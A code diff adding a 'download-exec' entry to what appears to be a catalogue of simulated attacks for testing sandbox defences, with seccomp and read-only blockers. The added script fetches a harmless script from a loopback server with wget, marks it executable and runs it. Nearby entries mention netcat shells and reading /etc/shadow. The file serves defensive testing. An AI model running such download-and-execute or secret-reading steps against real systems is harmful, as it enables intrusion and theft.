@@ -130,6 +130,32 @@ export const ATTACKS: readonly Attack[] = [
     footprint: { exec: ['/bin/nc', '/bin/sh'], network: ['tcp'] },
   },
   {
+    id: 'download-exec',
+    title: 'Download a payload with wget (curl-style, from a server on loopback) into /tmp and run it',
+    threat: 'unexpected binary, reverse shell (nc, curl, sh)',
+    mitre: ['T1105', 'T1059.004'],
+    run: {
+      kind: 'shell',
+      script: [
+        "mkdir -p /dev/shm/www && printf '#!/bin/sh\\necho payload-$((6*7))\\n' > /dev/shm/www/p.sh",
+        'httpd -f -p 127.0.0.1:18080 -h /dev/shm/www & h=$!',
+        'usleep 300000',
+        'out=$( { wget -q -O /tmp/rampart-payload http://127.0.0.1:18080/p.sh && chmod 755 /tmp/rampart-payload && /tmp/rampart-payload; } 2>&1 )',
+        'kill $h 2>/dev/null',
+        'case "$out" in *payload-42*) echo "RAMPART:allowed downloaded /tmp/rampart-payload and ran it";;',
+        '*) echo "RAMPART:denied $out";; esac',
+      ].join('\n'),
+    },
+    blockers: [
+      {
+        kind: 'seccomp',
+        syscalls: [{ name: 'socket', args: [AF_INET, SOCK_STREAM, 0] }, { name: 'connect' }, { name: 'bind' }, { name: 'listen' }],
+      },
+      { kind: 'read-only-root', path: '/tmp/rampart-payload' },
+    ],
+    footprint: { exec: ['/bin/wget', '/tmp/rampart-payload'], network: ['tcp'], files: [{ path: '/tmp/rampart-payload', write: true }] },
+  },
+  {
     id: 'read-shadow',
     title: 'Read /etc/shadow',
     threat: 'read of secrets or service-account token files',
